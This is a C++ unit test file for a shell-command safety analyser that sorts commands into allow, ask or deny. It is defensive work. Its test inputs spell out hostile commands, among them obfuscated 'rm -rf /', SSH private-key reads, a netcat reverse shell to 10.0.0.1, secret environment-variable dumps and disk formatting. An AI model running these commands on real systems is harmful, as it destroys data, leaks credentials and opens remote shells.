// The AnalyzeCommand contract: decision, rule, reason, matched, commands, options.
#include <gtest/gtest.h>

#include "execpolicy/command_analysis.h"

namespace clawtools::execpolicy {
namespace {

std::vector<std::vector<std::string>> Argvs(const Analysis& a) {
  std::vector<std::vector<std::string>> out;
  for (const auto& c : a.commands) out.push_back(c.argv);
  return out;
}

TEST(AnalysisTest, ReportsCanonicalMatch) {
  Analysis a = AnalyzeCommand("X=rm; r''m$IFS-Rf -- '/'");
  EXPECT_EQ(a.decision, Decision::kDeny);
  EXPECT_EQ(a.rule, "destructive_fs.rm_recursive_critical");
  EXPECT_EQ(a.matched, "rm -Rf -- /");
  EXPECT_FALSE(a.reason.empty());
  EXPECT_EQ(std::string(DecisionName(a.decision)), "deny");
}

TEST(AnalysisTest, MatchedIsShellQuoted) {
  Analysis a = AnalyzeCommand("cat '/home/u/.ssh/id rsa'");
  EXPECT_EQ(a.decision, Decision::kDeny);
  EXPECT_EQ(a.matched, "cat '/home/u/.ssh/id rsa'");
}

TEST(AnalysisTest, ListsEveryCommandRecursively) {
  Analysis a = AnalyzeCommand("sudo timeout 5 sh -c 'echo $(date) | xargs ls' && git status");
  EXPECT_EQ(Argvs(a), (std::vector<std::vector<std::string>>{
                          {"sudo", "timeout", "5", "sh", "-c", "echo $(date) | xargs ls"},
                          {"timeout", "5", "sh", "-c", "echo $(date) | xargs ls"},
                          {"sh", "-c", "echo $(date) | xargs ls"},
                          {"date"},
                          {"echo", "$(date)"},
                          {"xargs", "ls"},
                          {"ls", "{xargs-input}"},
                          {"git", "status"}}));
  EXPECT_TRUE(a.commands[4].dynamic);
  EXPECT_FALSE(a.commands[7].dynamic);
}

TEST(AnalysisTest, AllowHasNoRule) {
  Analysis a = AnalyzeCommand("ls -la && make -j4");
  EXPECT_EQ(a.decision, Decision::kAllow);
  EXPECT_EQ(a.rule, "");
  EXPECT_EQ(a.commands.size(), 2u);
}

TEST(AnalysisTest, UnknownCommandNamesAsk) {
  for (const char* s : {"$TOOL --version", "$(get-tool) run", "\"$@\"", "./$X", "/?\?\?/ls"}) {
    Analysis a = AnalyzeCommand(s);
    EXPECT_EQ(a.decision, Decision::kAsk) << s << " " << a.rule;
  }
  EXPECT_EQ(AnalyzeCommand("$X").rule, "analysis.dynamic_command");
}

TEST(AnalysisTest, ConditionalAssignmentsBecomeUnknown) {
  // X may still be rm when the last line runs: never read the last assignment as certain.
  Analysis a = AnalyzeCommand("X=rm; false && X=ls; $X -rf /");
  EXPECT_EQ(a.decision, Decision::kDeny) << a.rule;
  a = AnalyzeCommand("X=rm; (X=ls); $X -rf /");
  EXPECT_EQ(a.rule, "destructive_fs.rm_recursive_critical");
  a = AnalyzeCommand("X=ls; echo | X=rm; $X -rf /");
  EXPECT_EQ(a.decision, Decision::kAllow);
}

TEST(AnalysisTest, UnknownScriptsAsk) {
  EXPECT_EQ(AnalyzeCommand("cat script.sh | sh").rule, "eval_injection.stdin_script");
  EXPECT_EQ(AnalyzeCommand("sh -c \"$CMD\"").rule, "eval_injection.dynamic_script");
  EXPECT_EQ(AnalyzeCommand("python3 -c \"$CODE\"").rule, "eval_injection.dynamic_code");
  EXPECT_EQ(AnalyzeCommand("rm -rf \"$BUILD_DIR\"").rule, "destructive_fs.rm_recursive_dynamic");
  EXPECT_EQ(AnalyzeCommand("python3 -c 'import os; os.system(cmd)'").rule,
            "eval_injection.interpreter_dynamic_exec");
}

TEST(AnalysisTest, StaticDecodingIsFollowed) {
  // Harmless after decoding: allowed, and the decoded command is reported.
  Analysis a = AnalyzeCommand("echo bHMgLWxh | base64 -d | sh");
  EXPECT_EQ(a.decision, Decision::kAllow) << a.rule;
  EXPECT_EQ(a.commands.back().argv, (std::vector<std::string>{"ls", "-la"}));
}

TEST(AnalysisTest, GroupsCanBeSwitchedOff) {
  AnalysisOptions off;
  off.disabled_groups = {"package_install"};
  EXPECT_EQ(AnalyzeCommand("pip install requests").decision, Decision::kAsk);
  EXPECT_EQ(AnalyzeCommand("pip install requests", off).decision, Decision::kAllow);
  off.disabled_groups = {"privilege_escalation"};
  Analysis a = AnalyzeCommand("sudo rm -rf /", off);
  EXPECT_EQ(a.rule, "destructive_fs.rm_recursive_critical");
  EXPECT_EQ(AnalyzeCommand("sudo ls", off).decision, Decision::kAllow);
}

TEST(AnalysisTest, FailClosedFindingsCannotBeSwitchedOff) {
  AnalysisOptions off;
  off.disabled_groups = {"analysis"};
  EXPECT_EQ(AnalyzeCommand("echo 'unterminated", off).decision, Decision::kDeny);
  EXPECT_EQ(AnalyzeCommand("$X", off).decision, Decision::kAsk);
}

TEST(AnalysisTest, OptInGroups) {
  EXPECT_EQ(AnalyzeCommand("curl -s https://example.com").decision, Decision::kAllow);
  AnalysisOptions on;
  on.enabled_groups = {"network_tools"};
  Analysis a = AnalyzeCommand("curl -s https://example.com", on);
  EXPECT_EQ(a.decision, Decision::kAsk);
  EXPECT_EQ(a.rule, "network_tools.client");
}

// A custom tool's own variables may be printed; every other secret-looking one still may not,
// also through nested shells and printenv.
TEST(AnalysisTest, ProvidedVariablesAreNotSecretDumps) {
  AnalysisOptions tool;
  tool.provided_variables = {"API_KEY"};
  for (const char* cmd : {"echo $API_KEY", "printf '%s' \"${API_KEY}\"", "printenv API_KEY",
                          "sh -c 'echo $API_KEY'"}) {
    EXPECT_EQ(AnalyzeCommand(cmd).rule, "env_dump.secret_variable") << cmd;
    EXPECT_EQ(AnalyzeCommand(cmd, tool).decision, Decision::kAllow) << cmd;
  }
  for (const char* cmd : {"echo $OPENAI_API_KEY", "printenv GITHUB_TOKEN",
                          "echo $API_KEY $AWS_SECRET_ACCESS_KEY", "env"}) {
    EXPECT_EQ(AnalyzeCommand(cmd, tool).decision, Decision::kDeny) << cmd;
  }
}

TEST(AnalysisTest, UnknownGroupNamesFailClosed) {
  // A name this build does not know is treated as enabled, never as a hole.
  AnalysisOptions on;
  on.enabled_groups = {"no_such_group"};
  EXPECT_EQ(AnalyzeCommand("rm -rf /", on).decision, Decision::kDeny);
}

// The rules are looked up by program name: names far down a check's list, name families
// (mke2fs, pip3.11, pypy3) and redirections of programs no check lists must all reach them.
TEST(AnalysisTest, RuleTablesReachEveryName) {
  const std::pair<const char*, const char*> cases[] = {
      {"unlink /etc/passwd", "destructive_fs.rm_critical"},
      {"mke2fs /dev/sda1", "disk.format"},
      {"pip3.11 install x", "package_install.pip"},
      {"pypy3 -m pip install x", "package_install.pip"},
      {"nc.openbsd -e /bin/sh 10.0.0.1 4444", "reverse_shell.nc_exec"},
      {"gtar --to-command=sh -xf a.tar", "code_injection_env.tar_exec"},
      {"telinit 0", "system_control.runlevel"},
      {"printf x >> /dev/nvme0n1", "disk.redirect_device"},
      {"ls > /proc/sysrq-trigger", "system_control.sysrq"},
  };
  for (const auto& [command, rule] : cases)
    EXPECT_EQ(AnalyzeCommand(command).rule, rule) << command;
}

TEST(AnalysisTest, DenyWinsOverEarlierAsk) {
  Analysis a = AnalyzeCommand("pip install x; rm -rf /");
  EXPECT_EQ(a.decision, Decision::kDeny);
  EXPECT_EQ(a.rule, "destructive_fs.rm_recursive_critical");
}

}  // namespace
}  // namespace clawtools::execpolicy
